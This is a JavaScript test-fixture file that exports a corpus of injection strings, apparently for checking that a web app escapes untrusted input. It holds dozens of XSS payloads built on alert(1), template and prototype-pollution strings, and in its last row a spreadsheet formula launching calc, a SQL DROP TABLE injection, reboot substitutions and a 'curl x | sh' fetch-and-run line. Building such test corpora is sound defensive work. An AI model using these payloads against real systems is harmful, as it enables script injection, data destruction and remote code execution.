// Texts that would run, or break the page, if one of them were taken for markup, a URL, a
// style or a script. Each calls alert, or asks the network for "x".
export const corpus = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '"><script>alert(1)</script>',
  '\'><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</script><script>alert(1)</script>', '</style><script>alert(1)</script>',
  '<body onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)',
  'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:alert(1)', '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">', '<form action="javascript:alert(1)"><input type=submit></form>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<style>@import "x";</style>', '<link rel=stylesheet href=x>', '<base href="https://example.org/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<div style="background:url(javascript:alert(1))">', '<div style="width:expression(alert(1))">', '<table background="javascript:alert(1)">', '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<img src=`x` onerror=`alert(1)`>',
  '<img """><script>alert(1)</script>">', '<IMG SRC="jav&#x09;ascript:alert(1);">', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '${alert(1)}', '{{alert(1)}}', '`${alert(1)}`', '{{constructor.constructor("alert(1)")()}}', '#{alert(1)}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}', '{"constructor":null,"type":"script","props":{"children":"alert(1)"}}', '{"__html":"<img src=x onerror=alert(1)>"}', '__proto__', 'constructor',
  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onclick=alert(1) `', '<x contenteditable onblur=alert(1)>', '<button popovertarget=x onclick=alert(1)>',
  '<a href="#/deliveries/..%2f..%2f" onclick=alert(1)>', '%3Cscript%3Ealert(1)%3C/script%3E', '\u202e<tpircs>', '\u2028alert(1)\u2029', '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '=cmd|\' /C calc\'!A0', "'; DROP TABLE deliveries; --", '$(reboot)', '`reboot`', "'; curl x | sh; '",
];
